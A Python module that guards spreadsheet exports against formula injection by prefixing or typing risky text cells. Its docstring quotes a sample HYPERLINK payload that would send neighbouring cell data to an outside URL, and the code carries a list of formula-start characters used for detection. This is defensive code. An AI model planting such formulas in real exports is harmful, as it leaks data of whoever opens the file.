"""Spreadsheet cells that are never run as formulas (CSV / formula injection).

A matter title or an audit detail is text a citizen or a clerk wrote; one starting with `=`, `+`, `-` or `@`
(or a tab or carriage return before them) would run as a formula in Excel or LibreOffice, e.g.
`=HYPERLINK("http://…?"&A1, "Xem")` sending the neighbouring cells away. Every XLSX and CSV the service
produces writes such text as text.
"""
from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def risky(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A CSV field a spreadsheet will not evaluate: a leading apostrophe, the spreadsheets' own text mark."""
    return "'" + value if risky(value) else value


def set_xlsx(cell: Any, value: Any) -> Any:
    """Write `value` into an openpyxl cell; text that looks like a formula stays a text cell (type "s", with
    the quote prefix that keeps it text when someone edits it)."""
    cell.value = value
    if risky(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def from_csv_cell(value: str) -> str:
    """The text `csv_cell` guarded, for a table the service reads back (the catalogue)."""
    return value[1:] if value.startswith("'") and risky(value[1:]) else value
